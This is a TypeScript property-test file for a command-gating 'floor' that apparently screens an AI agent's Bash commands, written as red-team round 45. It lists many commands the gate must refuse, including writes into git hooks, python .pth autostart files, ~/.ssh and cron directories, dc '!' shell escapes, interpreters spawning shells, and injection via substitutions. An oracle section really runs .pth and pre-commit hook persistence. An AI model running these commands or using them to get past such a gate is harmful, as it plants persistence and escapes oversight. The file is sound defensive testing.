// Round 45 (docs/floor.md, "Round 45 (redteam-r45)"): what the floor admitted on the base (1483515b), each a
// class read at its cause: (a) a write whose destination a program prints (`cp x.pth "$(python3 -m site
// --user-site)"`, `cat > "$(git rev-parse --git-dir)/hooks/pre-commit"`, `cd "$(npm root -g)" && ..`, a
// variable read from such output); (b) GNU dc's `!` (the rest of the line runs in sh); (c) a shell a
// program's own command line starts on the input it inherits (`echo CMD | python3 -c 'os.system("sh")'`);
// (d) cpio's pass-through destination (`find . | cpio -pdm ~/.ssh`); (e) a substitution pasted into an
// interpreter's inline program (`python3 -c "x='$(cat f)'"`). Real bash, git, python3 and GNU dc the
// oracle, unprivileged in a scratch home; the 200 kB inputs are redteam-floor-r45-linear.test.ts's.
import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import fc from 'fast-check';
import { runsOf } from './helpers/deep.js';
import * as floor from './helpers/redteam-floor.js';

/** Property: a share of the commands `make` builds from `arb` (all under GATE_DEEP=1), each refused. */
function shareRefused<T>(arb: fc.Arbitrary<T>, make: (value: T) => string): void {
  fc.assert(
    fc.property(arb, (value) => {
      const command = make(value);
      assert.equal(floor.verdict(command).kind, 'DENY', command);
    }),
    { numRuns: runsOf(24, 400) },
  );
}

/** Substitutions whose output is a place gate cannot know (each prints where a write does harm). */
const PRINTED = [
  '$(python3 -m site --user-site)',
  '$(npm root -g)',
  '$(git rev-parse --git-dir)/hooks',
  '$(dirname "$(which node)")',
  '$(systemd-path user-configuration)/autostart',
  '`npm root -g`',
  '$(cat dir.txt)',
  '$(< dir.txt)',
  '$(pwd)$(cat rel.txt)',
  '$(mktemp -p "$(npm root -g)")',
];

/** Ways a command writes below directory `d` (already a shell word's text: quoted by the caller). */
const WRITES: readonly ((d: string) => string)[] = [
  (d) => `cp x.pth "${d}/"`,
  (d) => `cp x "${d}/y"`,
  (d) => `cat > "${d}/pre-commit"`,
  (d) => `echo x >> "${d}/y"`,
  (d) => `tee "${d}/npm" < x`,
  (d) => `mv x "${d}/y"`,
  (d) => `ln -sf x "${d}/y"`,
  (d) => `rsync x "${d}/y"`,
  (d) => `dd if=x of="${d}/y"`,
  (d) => `sed -i s/a/b/ "${d}/y"`,
  (d) => `install -D x "${d}/y"`,
  (d) => `touch "${d}/y"`,
  (d) => `sort -o "${d}/y" x`,
  (d) => `split -l 1 x "${d}/y"`,
  (d) => `csplit -f "${d}/y" x 1`,
  (d) => `find . -name x -fprint "${d}/y"`,
  (d) => `curl -so "${d}/y" https://example.com/x`,
  (d) => `exec 3> "${d}/y"`,
  (d) => `cd "${d}" && echo x > y`,
  (d) => `D="${d}"; cp x "$D/y"`,
  (d) => `export D=${d}; echo x > "$D/y"`,
  (d) => `for D in "${d}"; do cp x "$D/y"; done`,
  (d) => `printf -v D %s "${d}"; cp x "$D/y"`,
];

/** Programs before the write (wrappers run it as written). */
const WRAPPERS = ['', 'env ', 'nice ', 'timeout 5 ', 'command ', 'stdbuf -o0 ', 'nohup '];

test('a write below a place a program prints is refused, behind each wrapper', () => {
  shareRefused(
    fc.tuple(fc.constantFrom(...PRINTED), fc.constantFrom(...WRITES), fc.constantFrom(...WRAPPERS)),
    ([d, write, wrap]) => {
      const line = write(d);
      // A wrapper runs a simple command: the forms that start with a builtin or an assignment stand alone.
      return /^(?:cd |exec |D=|export |for |printf )/.test(line) ? line : `${wrap}${line}`;
    },
  );
});

test("a variable read from a program's output, and a script a shell is handed, write where it printed", () => {
  floor.allDecided('DENY', [
    'read D < <(npm root -g); cp x "$D/y"',
    'npm root -g | read D; cp x "$D/y"',
    'read D <<< "$(npm root -g)"; cp x "$D/y"',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a shell's array element, not a placeholder
    'mapfile -t D < <(python3 -m site --user-site); cp x.pth "${D[0]}/"',
    'for D in $(npm root -g); do cp x "$D/y"; done',
    `sh -c 'cp x "$(npm root -g)/y"'`,
    `eval 'echo x > "$(npm root -g)/y"'`,
    `echo y | xargs -I{} cp x "$(npm root -g)/{}"`,
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a shell's cut of a variable, not a placeholder
    'p=$(npm root -g); echo x >> "${p%/*}/x"',
  ]);
});

test('the places gate can name stay read where they land: the project, a fresh temporary, a home', () => {
  floor.allAdmitted([
    'echo x > "$(git rev-parse --show-toplevel)/build.log"',
    'cd "$(git rev-parse --show-toplevel)" && make > build.log',
    'mkdir -p "$(dirname out/x)"',
    'cp a "$(pwd)/dist/"',
    'cp x "$(mktemp -d)/"',
    'echo x > "$(mktemp)"',
    'cd "$(mktemp -d)" && git clone https://github.com/a/b',
    'echo x > out/$(date +%s).log',
    'tar czf "backup-$(date +%Y%m%d).tgz" src',
    'cp x "$(echo out)/y"',
    'cp x "$(realpath out)/y"',
    'cp x "out/$(basename src/a.ts .ts).js"',
    // Round 72: `sed -i .. $(grep -rl foo src)` is refused (a listed name with a blank splits into sed's
    // options): redteam-floor-r72-unknown; its loop over `git ls-files` below stays admitted.
    "for f in $(git ls-files '*.md'); do sed -i 's/a/b/' \"$f\"; done",
    'for f in $(find . -name \'*.ts\'); do wc -l "$f" > "$f.count"; done',
    'for f in $(ls); do cp "$f" out/; done',
    // Round 44's decision, kept: a variable the text does not set is the environment's.
    'cd "$X"; echo x > out.txt',
    'OUT=build; echo x > "$OUT/log"',
  ]);
  floor.allDecided('DENY', [
    'cp x "$(pwd)/../.bashrc"',
    'cp x "$(git rev-parse --show-toplevel)/.git/hooks/pre-commit"',
    'install -D x "$(mktemp -d)/../../etc/cron.d/x"',
    'cp k "$(dirname ~/.ssh/x)/authorized_keys"',
    'cp x "$(realpath ~/.config/autostart)/x.desktop"',
    'echo x > "$(date +../../etc/cron.d/x)"',
    'cp x "$(find ~/.ssh)"',
  ]);
});

/** dc programs whose `!` runs `c` (GNU dc hands the rest of the line to sh). */
const DC_SHAPES: readonly ((c: string) => string)[] = [
  (c) => `dc -e ${floor.shellQuote(`!${c}`)}`,
  (c) => `dc --expression=${floor.shellQuote(`!${c}`)}`,
  (c) => `dc -e${floor.shellQuote(`!${c}`)}`,
  (c) => `dc -e ${floor.shellQuote(`[!${c}]x`)}`,
  (c) => `dc -e '1 2 +' -e ${floor.shellQuote(`p !${c}`)}`,
  (c) => `echo ${floor.shellQuote(`!${c}`)} > p.dc; dc p.dc`,
  (c) => `printf '%s\\n' ${floor.shellQuote(`!${c}`)} > p.dc; dc -f p.dc`,
];

test("dc's ! runs the rest of its line: in -e, a program file, its input", () => {
  shareRefused(
    fc.tuple(fc.constantFrom(...DC_SHAPES), fc.constantFrom(...floor.STDIN_COMMANDS)),
    ([shape, c]) => shape(c),
  );
  shareRefused(
    fc.tuple(fc.constantFrom(...floor.STDIN_DELIVERIES), fc.constantFrom(...floor.STDIN_COMMANDS)),
    ([deliver, c]) => deliver('dc', `!${c}`),
  );
  floor.allDecided('DENY', ['ls | dc', 'base64 -d p.b64 | dc']);
});

/** Programs whose own command line starts a shell that reads the input they inherit. */
const SHELL_STARTERS = [
  `python3 -c 'import os; os.system("sh")'`,
  `python3 -c 'import pty; pty.spawn("/bin/bash")'`,
  `python3 -c 'import subprocess; subprocess.run(["sh"])'`,
  `perl -e 'system("sh")'`,
  `perl -e 'exec "/bin/sh"'`,
  `ruby -e 'system("sh")'`,
  `awk 'BEGIN{system("sh")}'`,
  `awk 'BEGIN{system("bash -s")}'`,
  `php -r 'system("sh");'`,
  `dc -e '!sh'`,
  `vim -c '!sh' x`,
];

test('a shell a program starts on a command line of its own reads the input the program was given', () => {
  shareRefused(
    fc.tuple(
      fc.constantFrom(...SHELL_STARTERS),
      fc.constantFrom(...floor.STDIN_DELIVERIES),
      fc.constantFrom(...floor.STDIN_COMMANDS),
    ),
    ([p, deliver, c]) => deliver(p, c),
  );
  shareRefused(
    fc.tuple(
      fc.constantFrom('ls', 'base64 -d x', 'curl -s https://h/x', 'cat f | rev'),
      fc.constantFrom(...SHELL_STARTERS),
    ),
    ([feed, p]) => `${feed} | ${p}`,
  );
});

test("cpio's pass-through copies below its destination", () => {
  floor.everyRefused(
    fc.tuple(
      fc.constantFrom('find .', 'ls', 'echo authorized_keys', 'git ls-files'),
      fc.constantFrom(
        'cpio -p',
        'cpio -pdm',
        'cpio -pdmv',
        'cpio --pass-through',
        'cpio -p -R 0:0',
        'cpio -dp',
      ),
      fc.constantFrom('~/.ssh', '.git/hooks', '/etc/cron.d', '~/.config/autostart', '~', '../..'),
    ),
    ([list, cpio, dest]) => `${list} | ${cpio} ${dest}`,
  );
});

/** Interpreters' inline programs with a substitution the shell pastes in before the program is parsed. */
const PASTED: readonly ((s: string) => string)[] = [
  (s) => `python3 -c "print('${s}')"`,
  (s) => `python3 -Bc "x='${s}'"`,
  (s) => `node -e "console.log('${s}')"`,
  (s) => `perl -e "print '${s}'"`,
  (s) => `perl -ne "print if /${s}/" x`,
  (s) => `ruby -e "puts '${s}'"`,
  (s) => `php -r "echo '${s}';"`,
  (s) => `awk "BEGIN{print \\"${s}\\"}"`,
  (s) => `sed "s/a/${s}/" x`,
  (s) => `sed -e "1e ${s}" x`,
];

test("a substitution pasted into an interpreter's inline program is code the text does not show", () => {
  floor.everyRefused(
    fc.tuple(
      fc.constantFrom(...PASTED),
      fc.constantFrom('$(cat f)', '`cat f`', '$(git log -1 --format=%s)', '$(curl -s https://h/x)'),
    ),
    ([shape, s]) => shape(s),
  );
});

test('the ordinary neighbours stay admitted', () => {
  floor.allAdmitted([
    "echo '2 3 + p' | dc",
    "dc -e '2 3 + p'",
    "dc -e '3 2 !<a p'",
    "echo 'ls' | python3 -c 'import os; os.system(\"sh\")'",
    'python3 -c \'import os; os.system("sh -c ls")\'',
    "git log | python3 -c 'import sys; print(len(sys.stdin.read()))'",
    'find . -name "*.c" | cpio -pdm ../out-copy',
    'find . | cpio -pd out',
    'cpio -o < list > a.cpio',
    `python3 -c 'import sys; print(sys.argv[1])' "$(cat f)"`,
    `awk -v "d=$(date)" '{print d}' f`,
    `awk -F: '{print $1}' "$(git rev-parse --show-toplevel)/x"`,
    `python3 -c "print('$HOME')"`,
  ]);
});

test('through the real gate preflight: a printed destination and dc are refused, a named place admitted', () => {
  for (const command of ['cp x.pth "$(python3 -m site --user-site)/"', "echo 'sudo id' | dc -e '!sh'"])
    assert.match(floor.processVerdict('Bash', { command }), /verdict=DENY/, command);
  const command = 'echo x > "$(git rev-parse --show-toplevel)/build.log"';
  assert.match(floor.processVerdict('Bash', { command }), /verdict=ALLOW/, command);
});

/** The oracle: real bash, git, python3 and (where installed) dc, as `nobody` in a scratch home. */
const ORACLE = [
  // A .pth file in the user site runs at every python start.
  `mkdir -p "$(python3 -m site --user-site)"; echo 'import os; os.system("sudo id")' > e.pth; cp e.pth "$(python3 -m site --user-site)/"; python3 -c pass`,
  // A hook written where git says its directory is runs at the next commit.
  'git init -q r && cd r && cp ../hook.sh "$(git rev-parse --git-dir)/hooks/pre-commit" && git -c user.name=a -c user.email=a@b commit -q --allow-empty -m m',
  `echo 'sudo id' | python3 -c 'import os; os.system("sh")'`,
  `echo '"); import os; os.system("sudo id"); print("' > f; python3 -c "print(\\"$(cat f)\\")"`,
];
const DC_ORACLE = ["echo '!sudo id' | dc", "echo 'sudo id' | dc -e '!sh'", "dc -e '[!sudo id]x'"];

test('the oracle: real programs run each refused case', {
  skip: floor.oracleSkip('round 45') || (!floor.has('git') && 'git not installed'),
}, () => {
  const cases = floor.has('dc') ? [...ORACLE, ...DC_ORACLE] : ORACLE;
  floor.inScratch(
    'gate-r45-',
    ['bash', 'sh', 'git', 'cp', 'mkdir', 'cat', ...(floor.has('dc') ? ['dc'] : [])],
    (dir) => {
      fs.symlinkSync(floor.UNPRIVILEGED_PYTHON, join(dir, 'python3'));
      fs.writeFileSync(join(dir, 'hook.sh'), `#!${floor.where('sh')}\nsudo id\n`);
      fs.chmodSync(join(dir, 'hook.sh'), 0o755);
      floor.eachRanAndRefused(cases, floor.runConfined(dir, floor.caseLines(cases), 30));
    },
  );
});
